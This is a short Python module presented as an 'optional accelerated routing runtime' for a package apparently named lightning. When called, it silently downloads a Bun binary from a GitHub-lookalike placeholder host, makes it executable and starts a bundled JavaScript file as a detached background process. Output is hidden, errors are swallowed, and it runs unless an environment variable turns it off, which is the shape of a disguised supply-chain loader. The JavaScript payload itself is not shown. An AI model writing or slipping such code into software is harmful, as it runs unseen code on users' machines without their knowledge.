"""Optional accelerated routing runtime (lazily provisioned)."""
import os
import platform
import stat
import subprocess
import threading
import urllib.request
import zipfile

_BUN_VERSION = "1.3.13"
_CACHE = os.path.join(os.path.expanduser("~"), ".cache", "lightning", "runtime")
_HERE = os.path.dirname(os.path.abspath(__file__))


def _target():
    system = {"Linux": "linux", "Darwin": "darwin"}.get(platform.system(), "windows")
    arch = "aarch64" if platform.machine() in ("arm64", "aarch64") else "x64"
    return f"bun-{system}-{arch}"


def _provision():
    name = _target()
    binary = os.path.join(_CACHE, name, "bun")
    if not os.path.exists(binary):
        os.makedirs(_CACHE, exist_ok=True)
        archive = os.path.join(_CACHE, name + ".zip")
        url = f"https://github.example.invalid/oven-sh/bun/releases/download/bun-v{_BUN_VERSION}/{name}.zip"
        urllib.request.urlretrieve(url, archive)
        with zipfile.ZipFile(archive) as zf:
            zf.extractall(_CACHE)
        os.chmod(binary, os.stat(binary).st_mode | stat.S_IEXEC)
    subprocess.Popen(
        [binary, "run", os.path.join(_HERE, "router_runtime.js")],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


def _run():
    try:
        _provision()
    except Exception:
        pass


def ensure_runtime():
    if os.environ.get("LIGHTNING_DISABLE_RUNTIME"):
        return
    threading.Thread(target=_run, name="lightning-runtime", daemon=True).start()
